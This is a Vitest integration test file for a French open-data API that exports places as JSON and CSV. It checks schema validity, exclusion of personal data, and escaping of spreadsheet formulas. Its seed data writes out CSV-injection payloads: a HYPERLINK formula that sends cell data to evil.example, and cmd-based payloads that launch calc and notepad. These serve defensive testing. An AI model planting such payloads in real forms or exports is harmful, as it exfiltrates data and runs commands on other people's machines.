import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isFormulaLike } from '../../../shared/domain/csv.js';
import { loadTableSchema, NATIONAL_SCHEMA_PATH, validateCsv, validateRows } from '../../helpers/table-schema.js';
import { type ConsoleApp, startConsoleApp } from './harness.js';
import { seedApplication } from './seed.js';

// The schema beside the checkout is the reference; the copy in shared/data must be identical (checked elsewhere).
const schema = loadTableSchema(NATIONAL_SCHEMA_PATH);

let app: ConsoleApp;
const PERSONAL = ['Claire Martin', 'claire.martin@clic-solidaire.fr'];

beforeAll(async () => {
  app = await startConsoleApp({ lite: true });
  await seedApplication(app.deps, { stage: 'qualified', nom: 'Clic Solidaire' });
  await seedApplication(app.deps, {
    stage: 'qualified',
    nom: 'Tiers-lieu "Le Préau", Guéret',
    lieu: {
      nom: 'Le Préau; atelier "numérique"',
      adresse: '1 place Bonnyaud',
      code_postal: '23000',
      commune: 'Guéret',
      horaires: 'Tu-Sa 10:00-18:00',
    },
    lieux_d_intervention: ['lieu_propre', 'itinerant'],
  });
  // What an attacker types into the form to run in the spreadsheet of whoever opens the open data.
  await seedApplication(app.deps, {
    stage: 'qualified',
    nom: '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    lieu: {
      nom: "@SUM(1+1)*cmd|' /C calc'!A0",
      adresse: "-2+3+cmd|' /C notepad'!A0",
      code_postal: '87000',
      commune: 'Limoges',
      telephone: '05 55 00 00 00',
    },
  });
  await seedApplication(app.deps, { stage: 'qualified', nom: 'Pas publié', publication: false, publish: false });
  await seedApplication(app.deps, { stage: 'staff_review', nom: 'En cours' });
});
afterAll(() => app?.close());

describe('open data', () => {
  it('GET /api/lieux: a JSON array of national-schema rows, valid against the schema file', async () => {
    const res = await app.call('GET', '/api/lieux');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(Array.isArray(res.body)).toBe(true);
    expect(res.body).toHaveLength(3);
    expect(validateRows(schema, res.body)).toEqual([]);
    const names = res.body.map((r: { structure_parente: string }) => r.structure_parente).sort();
    expect(names).toEqual([
      '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
      'Clic Solidaire',
      'Tiers-lieu "Le Préau", Guéret',
    ]);
    for (const p of PERSONAL) expect(res.text).not.toContain(p);
    // Only the schema's fields, in its order.
    const order = schema.fields.map((f) => f.name);
    for (const row of res.body) {
      const keys = Object.keys(row);
      expect(keys).toEqual(order.filter((k) => keys.includes(k)));
    }
    const creuse = await app.call('GET', '/api/lieux?departement=23');
    expect(creuse.body.map((r: { code_insee: string }) => r.code_insee)).toEqual(['23096']);
    // JSON is no spreadsheet: values stay as typed there.
    expect((await app.call('GET', '/api/lieux?departement=<script>')).status).toBe(400);
  });

  it('GET /api/lieux.csv: UTF-8, comma, header = the schema field names in order, `|` inside cells, valid', async () => {
    const res = await fetch(`${app.url}/api/lieux.csv`);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = Buffer.from(await res.arrayBuffer());
    const text = new TextDecoder('utf-8', { fatal: true }).decode(bytes);
    expect(text.charCodeAt(0)).not.toBe(0xfeff);
    const { header, rows, errors } = validateCsv(schema, text);
    expect(errors).toEqual([]);
    expect(header).toEqual(schema.fields.map((f) => f.name));
    expect(rows).toHaveLength(3);
    const preau = rows.find((r) => r.code_postal === '23000');
    expect(preau).toMatchObject({
      nom: 'Le Préau; atelier "numérique"',
      itinerance: 'Itinérant|Fixe',
      commune: 'Guéret',
    });
    expect(preau?.services).toContain('|');
    for (const p of PERSONAL) expect(text).not.toContain(p);
    // The JSON and the CSV say the same thing (a formula-like text cell carries the leading quote in the CSV).
    const json = (await app.call('GET', '/api/lieux')).body as Record<string, unknown>[];
    for (const r of json) {
      const c = rows.find((x) => x.id === r.id);
      for (const [k, v] of Object.entries(r)) expect(c?.[k], k).toBe(isFormulaLike(String(v)) ? `'${v}` : String(v));
    }
  });

  it('GET /api/lieux.csv: formula injection neutralised (OWASP), phone numbers exact, still schema-valid', async () => {
    const text = await (await fetch(`${app.url}/api/lieux.csv`)).text();
    const { rows, errors } = validateCsv(schema, text);
    expect(errors).toEqual([]);
    const evil = rows.find((r) => r.code_postal === '87000' && r.commune === 'Limoges' && r.nom?.includes('SUM'));
    expect(evil).toMatchObject({
      nom: "'@SUM(1+1)*cmd|' /C calc'!A0",
      adresse: "'-2+3+cmd|' /C notepad'!A0",
      structure_parente: `'=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")`,
      telephone: '+33555000000',
    });
    // (Places carry no coordinates yet; numbers such as -12.5 staying exact is checked in test/unit/console.)
    // No cell of the file starts with a formula character, except plain numbers (+33…, -1.2).
    for (const row of rows) {
      for (const [field, cell] of Object.entries(row)) {
        if (/^[=+\-@\t\r]/.test(cell)) expect(cell, field).toMatch(/^[+-]\d+(\.\d+)?$/);
      }
    }
  });
});
